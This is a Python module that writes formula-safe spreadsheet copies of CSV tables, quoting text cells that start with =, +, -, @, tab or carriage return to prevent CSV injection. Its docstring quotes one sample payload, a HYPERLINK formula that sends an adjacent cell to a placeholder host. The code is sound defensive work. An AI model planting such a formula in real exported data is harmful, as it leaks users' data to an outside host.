"""Formula-safe copies of the CSV tables, for people who open them in a spreadsheet.

A cell that starts with ``=``, ``+``, ``-`` or ``@`` is read by Excel and LibreOffice as
a formula (OWASP's guidance on CSV injection adds tab and carriage return to the list):
a sentence from an article such as ``=HYPERLINK("http://host/?"&A1, "open")`` becomes a
link that sends the cell next to it to that host when clicked, and ``-2+3`` becomes 1. The
canonical tables of ``measure`` stay exactly as they are (byte-stable, for analysis
code); :func:`write_spreadsheet_copies` writes a copy of each beside them in which such
text cells start with a single quote ``'``, the spreadsheet convention for "this is
text".

Numbers stay numbers. A column is numeric when every non-empty cell in it is a plain
decimal number (``-0.42``, ``17``, ``1e-05``) or one of ``inf``, ``-inf``, ``nan``; its
plain numbers are copied unchanged (a spreadsheet reads ``-0.42`` as minus 0.42, never
as a formula), so sums and charts still work. Every other column is text, and there
even ``-1`` becomes ``'-1``: a title or a quote that happens to look like a number stays
the text it is. The decision is made per column over the whole file, from the CSV text
alone, so the same table always gives the same copy. In a numeric column only ``-inf``
gets the quote (it would read as a formula); empty cells stay empty.

The copies are UTF-8 with a byte-order mark, which is how Excel recognises UTF-8. They
are for reading in a spreadsheet: code should read the canonical tables, where a text
cell is the text itself, without the added quote.
"""

from __future__ import annotations

import csv
import re
import sys
from contextlib import contextmanager
from pathlib import Path
from typing import Iterator

__all__ = ["FORMULA_START", "ENCODING", "write_spreadsheet_copies", "numeric_columns",
           "safe_cell"]

#: First characters that make a spreadsheet read a cell as a formula (OWASP "CSV
#: injection": = + - @, tab, carriage return). Leading spaces are looked through.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
#: A plain decimal number as pandas writes it (``float_format="%.6g"`` and integers).
_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")
#: Non-finite values pandas writes into a numeric column.
_NON_FINITE = {"inf", "-inf", "+inf", "nan"}
#: Encoding of the copies: UTF-8 with a byte-order mark, which is how Excel recognises
#: UTF-8 (without it, “curly quotes” and accents show as mojibake).
ENCODING = "utf-8-sig"


@contextmanager
def _large_fields() -> Iterator[None]:
    """Let the csv module read cells as long as the tables hold (a quotation can be a
    whole article), then put its process-wide limit back."""
    old = csv.field_size_limit()
    csv.field_size_limit(min(sys.maxsize, 2**31 - 1))
    try:
        yield
    finally:
        csv.field_size_limit(old)


def _rows(path: Path) -> Iterator[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        yield from csv.reader(handle)


def _is_number(cell: str) -> bool:
    return _NUMBER.fullmatch(cell) is not None


def numeric_columns(path: Path) -> list[bool]:
    """Per column of the CSV at ``path`` (header excluded): True when every non-empty
    cell is a plain number or inf/nan, and at least one cell is a number."""
    with _large_fields():
        rows = _rows(path)
        header = next(rows, [])
        numeric, seen = [True] * len(header), [False] * len(header)
        for row in rows:
            for i, cell in enumerate(row[:len(header)]):
                if not numeric[i] or cell == "":
                    continue
                if _is_number(cell):
                    seen[i] = True
                elif cell.lower() not in _NON_FINITE:
                    numeric[i] = False
    return [n and s for n, s in zip(numeric, seen)]


def safe_cell(cell: str, numeric: bool = False) -> str:
    """``cell`` as a spreadsheet should get it: a plain number of a numeric column
    unchanged; any other cell whose first character after leading spaces would start a
    formula with a single quote in front."""
    if numeric and _is_number(cell):
        return cell
    if cell.lstrip(" ").startswith(FORMULA_START):
        return "'" + cell
    return cell


def _copy(source: Path, target: Path) -> None:
    numeric = numeric_columns(source)
    with _large_fields(), target.open("w", encoding=ENCODING, newline="") as handle:
        writer = csv.writer(handle, lineterminator="\n")
        rows = _rows(source)
        header = next(rows, None)
        if header is None:
            return
        writer.writerow([safe_cell(cell) for cell in header])
        for row in rows:
            writer.writerow([safe_cell(cell, i < len(numeric) and numeric[i])
                             for i, cell in enumerate(row)])


def write_spreadsheet_copies(tables_dir: Path, dest: Path) -> list[Path]:
    """For every ``*.csv`` directly in ``tables_dir`` (sorted by name), a formula-safe
    copy of the same name in ``dest`` (created if needed); returns the copies' paths.
    The tables themselves are only read. ``dest`` must not be ``tables_dir``."""
    tables_dir, dest = Path(tables_dir), Path(dest)
    if not tables_dir.is_dir():
        raise NotADirectoryError(f"{tables_dir}: not a folder of tables")
    if dest.resolve() == tables_dir.resolve():
        raise ValueError(f"{dest}: the spreadsheet copies would replace the tables")
    dest.mkdir(parents=True, exist_ok=True)
    written = []
    for source in sorted(tables_dir.glob("*.csv")):
        if not source.is_file():
            continue
        target = dest / source.name
        if target.is_symlink():  # write the copy itself, never through a planted link
            target.unlink()
        _copy(source, target)
        written.append(target)
    return written
